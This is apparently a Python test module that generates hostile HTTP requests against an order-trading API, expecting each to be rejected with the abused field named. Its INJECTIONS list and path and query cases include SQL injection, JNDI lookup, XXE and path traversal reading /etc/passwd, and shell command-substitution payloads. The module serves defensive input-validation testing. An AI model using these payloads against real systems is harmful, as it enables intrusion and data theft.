"""Hostile requests by families: each one must be refused with the name of the field it abuses."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import product

SWAP = {"symbol": '"AAPL"', "side": '"buy"', "quantity": "10"}
EXECUTE = "/api/orders/execute"


@dataclass(frozen=True)
class Hostile:
    """A request, and the field that its refusal must name, or the status if it names none."""

    family: str
    name: str
    abuses: str
    method: str = "POST"
    path: str = EXECUTE
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)
    statuses: tuple[int, ...] = (400,)

    def __str__(self) -> str:
        return ascii(f"{self.family}: {self.name}")[1:80]


def body_of(**changed: str) -> bytes:
    """The text of an order whose fields are given as JSON text."""
    members = ",".join(f'"{name}":{text}' for name, text in {**SWAP, **changed}.items())
    return ("{" + members + "}").encode("utf-8", "surrogatepass")


def quoted(text: str) -> str:
    return json.dumps(text)


INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE orders; --",
    '" OR ""="',
    "AAPL' UNION SELECT * FROM api_keys --",
    "1; SELECT pg_sleep(10)",
    "$1",
    "%s",
    "%(id)s",
    ":id",
    "{{7*7}}",
    "${jndi:ldap://h/a}",
    "{0.__class__.__mro__}",
    "<script>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "`id`",
    "$(id)",
    "|cat /etc/passwd",
    "\r\nSet-Cookie: a=b",
    "\n2026-01-01 [info] order_accepted",
    '","status":"confirmed',
    "\x1b[2J\x1b[31mred",
    "\u202egnp.exe",
    "__proto__",
    "constructor",
)
LOOK_ALIKES = (
    "\u0410APL",  # Cyrillic A
    "AA\u03a1L",  # Greek Rho
    "\uff21\uff21\uff30\uff2c",  # full width
    "AAPL\u200b",
    "\u200dAAPL",
    "AAPL\u00a0",
    "A\u0301APL",
    "AAPL\u0000",
    "AAPL\ud800",
    "\udfffAAPL",
    "\ufeffAAPL",
    "AAPL\u2028",
    "\u017fOL",
    " AAPL",
    "AAPL ",
    "AAPL\t",
    "\u017fol".upper() + "x",
    "\U0001d400\U0001d400PL",
    "AAPL\U000e0041",
)
WRONG_NUMBERS = (
    *("NaN", "-NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e1000000", "1e-1000000"),
    *("0", "-0", "0.0", "-1", "-0.0000001", "0e5", "1e20", "1e-20", "999999999999999999999"),
    *("9" * 64, "9" * 65, "0." + "0" * 70 + "1", "1.00000000000000000000000000001"),
    *("+1", "01", "1.", ".5", "0x10", "0b1", "0o7", "1_000", "1,000", "1e", "1e+", "--1", "1e1.5"),
)
WRONG_TEXTS = (
    *("", " ", "ten", "NaN", "sNaN", "inf", "-1", "+1", "1e2", "1E2", " 1", "1 ", "1\n", "0", "00"),
    *(
        "1_0",
        "1,0",
        "1.0.0",
        "0x10",
        "\uff11\uff12",
        "\u0661\u0662",
        "\u00b2",
        "\u2160",
        "1/2",
        "50%",
    ),
    *("9" * 30, "1" * 5000, "1\u0000", "1\ud800", "${1}", "1;1"),
)
WRONG_TYPES = (
    *("null", "true", "false", "[]", "{}", "[10]", '["buy"]', '{"$gt":0}', '{"value":1}'),
    *("[[]]", "[null]", '{"a":{"b":{"c":1}}}'),
)


def bodies() -> Iterator[Hostile]:
    """Bodies of an order."""
    for name, text in product(("symbol", "side"), (*INJECTIONS, *LOOK_ALIKES)):
        body = body_of(**{name: quoted(text)})
        yield Hostile("injection and look-alikes", f"{name} {text}", name, body=body)
    for name in ("symbol", "side", "quantity", "slippageBps", "worstPrice", "maxLegs"):
        # Null is allowed for an optional field.
        is_required = name in {"symbol", "side", "quantity"}
        for text in WRONG_TYPES if is_required else WRONG_TYPES[1:]:
            yield Hostile("wrong type", f"{name} {text}", name, body=body_of(**{name: text}))
    yield from numbers()
    for text in (*INJECTIONS, *LOOK_ALIKES[:3], "", "a" * 65, "a b", "a/b"):
        if text not in {"__proto__", "constructor"}:
            body = body_of(clientOrderId=quoted(text))
            yield Hostile("name", f"clientOrderId {text}", "clientOrderId", body=body)
    yield from smuggled()


def numbers() -> Iterator[Hostile]:
    """Numbers of an order."""
    for name, text in product(("quantity", "worstPrice", "slippageBps", "maxLegs"), WRONG_NUMBERS):
        is_allowed = (name == "slippageBps" and text in {"0", "-0"}) or (
            name == "worstPrice" and text in {"1e20", "1e-20", "999999999999999999999"}
        )
        if not is_allowed:
            body = body_of(**{name: text})
            yield Hostile("wrong number", f"{name} {text[:20]}", f"{name}|body", body=body)
    for name, text in product(("quantity", "worstPrice"), WRONG_TEXTS):
        body = body_of(**{name: quoted(text)})
        yield Hostile("number as text", f"{name} {text[:20]}", name, body=body)


def smuggled() -> Iterator[Hostile]:
    """Fields that a client may not set, and texts that two parsers read differently."""
    names = (
        *("orderId", "order_id", "clientId", "client_id", "status", "version", "attempt", "price"),
        *("__proto__", "constructor", "prototype", "$where", "Symbol", "SYMBOL", "symbol ", ""),
        *("quantity\u200b", "q\u0075antity2", "due_at", "limitAmount", "txHash", "dex", "admin"),
    )
    for name in names:
        body = body_of()[:-1] + f",{quoted(name)}:1".encode() + b"}"
        yield Hostile("smuggled field", name, ascii(name)[1:-1] or "|", body=body)
    for name, first in SWAP.items():
        for second in (first, "null", '"sell"', "1"):
            body = body_of()[:-1] + f',"{name}":{second}'.encode() + b"}"
            yield Hostile("given twice", f"{name} {second}", name, body=body)
    for opening, closing in (("[", "]"), ('{"a":', "}")):
        for depth in (8, 9, 100, 1500):
            nested = opening * depth + "1" + closing * depth
            body = body_of(symbol=nested)
            yield Hostile("nesting", f"{opening} {depth}", "body", body=body, statuses=(400, 413))
    for raw in (
        b"",
        b"\0",
        b"{",
        b"[]",
        b"1",
        b"null",
        b'"x"',
        b"{}{}",
        b"\xff\xfe{",
        b"{}\xef\xbb\xbf",
    ):
        yield Hostile("no object", repr(raw), "body", body=raw)
    for size in (8193, 9000, 100_000, 1_000_000):
        yield Hostile("size", str(size), "body", body=b" " * size, statuses=(413,))


def headers() -> Iterator[Hostile]:
    """Headers of an order."""
    for kind in (
        *(
            "",
            "text/plain",
            "text/html",
            "application/xml",
            "multipart/form-data",
            "application/jsonx",
        ),
        *("application/x-www-form-urlencoded", "application/json; charset=utf-16", "application"),
        *("application/json; charset=latin-1", "*/*", "json", "application/json, text/plain"),
    ):
        headers = {"Content-Type": kind}
        yield Hostile(
            "media type", kind, "Content-Type", body=body_of(), headers=headers, statuses=(415,)
        )
    for coding in ("gzip", "br", "deflate", "compress", "gzip, identity"):
        headers = {"Content-Encoding": coding}
        yield Hostile(
            "coding", coding, "Content-Encoding", body=body_of(), headers=headers, statuses=(415,)
        )
    for key in ("", " ", "a b", "k\t1", "\u00e9", "k" * 256, "k" * 5000, "\x7f", "a\u00a0b"):
        headers = {"Idempotency-Key": key}
        yield Hostile("key", key[:20], "Idempotency-Key", body=body_of(), headers=headers)
    for wait in ("wait", "wait=", "wait=-1", "wait=1.5", "wait=x", "wait=99999", "wait=1e1"):
        yield Hostile("preference", wait, "Prefer", body=body_of(), headers={"Prefer": wait})


QUERIES = {
    "/api/orders": ("status", "symbol", "limit", "cursor"),
    "/api/quotes": ("symbol", "side", "quantity", "slippageBps", "maxLegs"),
    "/api/orders/{order}/events": ("after",),
    "/ws/orders": ("orderId", "after", "cursor"),
}
IN_A_QUERY = (
    *(
        "",
        "%00",
        "%ED%A0%80",
        "%0A",
        "%27%20OR%201=1",
        "-1",
        "1e2",
        "%EF%BC%91",
        "0x1",
        "[]",
        "null",
    ),
    *("99999999999999999999", "%F0%9F%92%A9%00", "a" * 65),
)

ALLOWED_THERE = {
    # Any printable text is a valid filter that finds nothing.
    ("/api/orders", "symbol"): {"%ED%A0%80", *IN_A_QUERY} - {"", "%00", "%0A", *IN_A_QUERY[-2:]},
    ("/api/quotes", "quantity"): {"99999999999999999999"},
}


def queries() -> Iterator[Hostile]:
    """Query strings."""
    for path, names in QUERIES.items():
        for name, text in product(names, IN_A_QUERY):
            if text not in ALLOWED_THERE.get((path, name), ()):
                query = f"{path}?{name}={text}"
                yield Hostile("query", query, name, method="GET", path=query)
        for name in names:
            twice = f"{path}?{name}=1&{name}=2"
            yield Hostile("pollution", twice, name, method="GET", path=twice)
        for name in ("admin", "client_id", "clientId", "limit[]", "__proto__", "%00"):
            unknown = f"{path}?{name}=1"
            shown = "\\x00" if name == "%00" else name
            yield Hostile("unknown parameter", unknown, shown, method="GET", path=unknown)


def paths() -> Iterator[Hostile]:
    """Invalid ids in paths."""
    for text in (
        *(
            "0",
            "-1",
            "null",
            "%00",
            "..%2F..%2Fetc%2Fpasswd",
            "%27%20OR%201=1--",
            "a" * 2000,
            "%F0%9F%92%A9",
        ),
        *(
            "00000000-0000-0000-0000-00000000000",
            "{00000000-0000-0000-0000-000000000000}",
            "%ED%A0%80",
        ),
        *("00000000000000000000000000000000", "urn:uuid:00000000-0000-0000-0000-000000000000", "*"),
        *("\uff10" * 8 + "-0000-0000-0000-000000000000", "EXECUTE", "%2e%2e", "undefined", "NaN"),
    ):
        for path in (f"/api/orders/{text}", f"/api/orders/{text}/events"):
            yield Hostile("path", path[:60], "", method="GET", path=path, statuses=(404,))


def corpus() -> list[Hostile]:
    """All of them."""
    return [*bodies(), *headers(), *queries(), *paths()]
